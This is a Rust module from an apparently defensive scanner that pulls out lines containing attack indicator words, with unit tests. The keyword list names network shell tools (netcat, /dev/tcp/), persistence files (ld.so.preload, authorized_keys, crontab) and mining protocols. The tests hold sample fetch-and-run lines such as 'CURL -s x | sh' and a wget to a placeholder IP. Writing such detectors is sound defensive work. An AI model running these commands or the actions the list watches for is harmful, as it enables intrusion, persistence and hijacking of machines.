//! What is still looked at when the work of a user data is spent: lines that name what attacks are made of.
//!
//! One pass over the text picks them out. They are few and short, so that scanning them costs no more
//! than a fixed amount.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use crate::indicators::programs::{Class, of_class};

/// Bytes of lines that are picked out.
const MAX_KEPT: usize = 32 << 10;
/// Bytes kept on either side of a word on a line that is longer than that.
const AROUND: usize = 1024;

/// Words that stand in commands which fetch, decode, connect or mine.
const TELLING: &[&str] = &[
    "curl",
    "wget",
    "http://",
    "https://",
    "ftp://",
    "/dev/tcp/",
    "stratum+",
    "base64",
    "socket",
    "netcat",
    "ncat",
    "ld.so.preload",
    "authorized_keys",
    "crontab",
    "download",
    "frombase64string",
];

static WORDS: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    let words = TELLING.iter().copied().chain(of_class(Class::Miner).filter(|name| name.len() > 4));
    AhoCorasick::builder().ascii_case_insensitive(true).build(words).ok()
});

/// The lines of a text that hold a telling word, every other line left empty so that line numbers stay.
/// `None` when there is no such line.
pub fn telling_lines(text: &str) -> Option<String> {
    let words = WORDS.as_ref()?;
    let mut out = String::new();
    let mut kept = 0;
    for line in text.lines() {
        let mut at = 0;
        while let Some(found) = line.get(at..).and_then(|rest| words.find(rest)) {
            if kept >= MAX_KEPT {
                break;
            }
            let (from, to) = (at + found.start(), at + found.end());
            let part = if line.len() <= 2 * AROUND {
                at = line.len();
                line
            } else {
                let start = boundary(line, from.saturating_sub(AROUND).max(at));
                at = boundary(line, to.saturating_add(AROUND).min(line.len()));
                line.get(start..at).unwrap_or("")
            };
            kept += part.len() + 1;
            out.push_str(part);
            if at < line.len() {
                out.push(' ');
            }
        }
        out.push('\n');
    }
    (kept > 0).then_some(out)
}

/// The nearest character boundary at or behind a place.
fn boundary(text: &str, at: usize) -> usize {
    (at..=text.len()).find(|at| text.is_char_boundary(*at)).unwrap_or(text.len())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn telling_lines_keep_their_numbers_and_the_rest_is_dropped() {
        let text = "a=1\nls -l\nCURL -s x | sh\n";
        assert_eq!(telling_lines(text).as_deref(), Some("\n\nCURL -s x | sh\n"));
        assert_eq!(telling_lines("ls -l\n"), None);
    }

    #[test]
    fn a_long_line_is_cut_around_what_it_tells() {
        let text = format!("{}; wget http://203.0.113.9/a; {}", "é;".repeat(5000), "b;".repeat(5000));
        let found = telling_lines(&text).unwrap_or_default();
        assert!(found.contains("wget http://203.0.113.9/a;") && found.len() < 3 * AROUND, "{}", found.len());
        assert!(telling_lines(&"curl a;".repeat(100_000)).is_some_and(|text| text.len() < 2 * MAX_KEPT));
    }
}
